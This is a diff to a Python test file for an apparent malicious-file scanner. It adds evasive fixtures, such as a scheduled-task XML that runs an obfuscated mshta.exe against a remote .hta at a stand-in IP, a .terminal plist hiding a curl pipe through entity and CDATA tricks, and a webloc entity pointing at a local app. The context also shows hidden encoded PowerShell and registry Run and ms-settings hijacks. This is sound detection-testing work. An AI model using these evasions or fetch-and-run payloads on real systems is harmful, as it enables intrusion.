@@ -59,7 +59,7 @@ def share(name: str) -> bytes:
 
 def plist(**values: object) -> bytes:
     """Return a property list as XML."""
-    return plistlib.dumps(values)
+    return plistlib.dumps(values).rstrip()
 
 
 def binary(**values: object) -> bytes:
@@ -116,6 +116,18 @@ ODD = {
         '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Exec><Command>powershell.exe</Command>'
         f"<Arguments>-w hidden -enc {ENCODED}</Arguments></Exec></Task>".encode("utf-16"),
     ),
+    "task_of_two": (
+        "task.xml",
+        (
+            b'<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>notepad.exe</Command>'
+            b"</Exec><Exec><Arguments><![CDATA[http://192.0.2.1/a.hta]]></Arguments><Command>&#x6d;shta<!-- -->.exe</Command>"
+            b"</Exec></Actions></Task>"
+        ),
+    ),
+    "terminal_in_numbers": (
+        "a.terminal",
+        plist(CommandString=PIPE, name="x").replace(b"curl", b"&#99;u<![CDATA[rl]]>"),
+    ),
     "registry_run": ("a.reg", registry(f"{SOFTWARE}\\CurrentVersion\\Run", '"u"="C:\\\\u.exe"')),
     "registry_command": ("a.reg", registry("HKEY_CLASSES_ROOT\\ms-settings\\shell\\open\\command", '@="calc.exe"')),
     "page": (
@@ -168,9 +180,9 @@ HONEST = {
 
 
 def case(name: str, content: bytes, verdict: Verdict) -> Case:
-    """Return the case of a file; of a text, what is shorter is one as well."""
-    text = not content.startswith((MAGIC, b"bplist"))
-    return Case(lambda: content, name, verdict, cut_is_clean=text)
+    """Return the case of a file; of a text that is not read as XML, what is shorter is one as well."""
+    whole = content.startswith((MAGIC, b"bplist")) or (content[:1] == b"<" and not name.endswith((".hta", ".sct")))
+    return Case(lambda: content, name, verdict, cut_is_clean=not whole)
 
 
 CASES = {
@@ -179,6 +191,12 @@ CASES = {
     "link_is_cut": case("a.lnk", link("run.bat", "x" * 200)[:-150], Verdict.NOT_SCANNED),
     "link_with_more_behind": Case(
         lambda: link("run.bat") + bytes(range(1, 200)), "a.lnk", Verdict.NOT_SCANNED, cut_is_clean=True
+    ),
+    "list_with_entities": case(
+        "a.webloc",
+        b'<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY u "file:///x.app">]><plist><dict><key>URL</key>'
+        b"<string>&u;</string></dict></plist>",
+        Verdict.NOT_SCANNED,
     ),
     "list_is_cut": case("a.webloc", binary(URL="https://example.com/")[:-20], Verdict.NOT_SCANNED),
 }
